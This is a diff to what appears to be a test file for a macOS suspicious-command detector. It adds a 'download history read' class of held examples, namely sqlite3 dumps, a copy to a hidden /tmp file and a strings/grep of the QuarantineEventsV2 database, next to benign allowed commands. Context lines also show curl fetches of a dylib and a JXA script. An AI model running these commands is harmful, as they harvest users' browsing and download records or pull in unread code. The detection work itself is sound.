@@ -14,7 +14,12 @@ measured:
   helper (STRATOFEAR as ``us.zoom.ZoomHelperTool``), and a program run from there by hand is whatever
   was put there;
 - a compiled AppleScript (``.scpt``), JXA script or a dylib fetched from another machine: code only
-  ever run (``osascript /tmp/t.scpt``) or loaded, never read first.
+  ever run (``osascript /tmp/t.scpt``) or loaded, never read first;
+- the download history (``~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2``: every
+  file's source URL and the app that fetched it) read or copied, as Bundlore does to find the disk
+  image it came from (a second tuning source: SentinelOne's macOS payloads post, with a found dropper
+  script). A second held-out part (a blog's captured installer and an OSX.Pirrit write-up) was split
+  off and measured before this last class.
 """
 
 HELD: dict[str, list[str]] = {
@@ -36,6 +41,12 @@ HELD: dict[str, list[str]] = {
         "curl -L -o ~/Library/Caches/x.tmp https://cdn.example.net/m/libkc.dylib",
         "curl -sO http://203.0.113.9/j/run.jxa",
     ],
+    "download history read": [
+        "sqlite3 ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 'select * from x'",
+        "sqlite3 -line $HOME/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV* .dump",
+        "cp ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 /tmp/.q",
+        "strings ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 | grep http",
+    ],
 }
 
 ALLOWED: list[str] = [
@@ -45,6 +56,8 @@ ALLOWED: list[str] = [
     "xattr -l ~/Downloads/Tool.dmg",
     "security find-identity -v -p codesigning",
     "defaults read com.apple.dock autohide",
+    "xattr -p com.apple.quarantine ~/Downloads/Tool.dmg",
+    "ls ~/Library/Preferences/ | grep LaunchServices",
     "ls -l /Library/PrivilegedHelperTools/",
     "codesign -dv --verbose=4 /Library/PrivilegedHelperTools/com.docker.vmnetd",
     "cat /Library/LaunchDaemons/com.docker.vmnetd.plist",
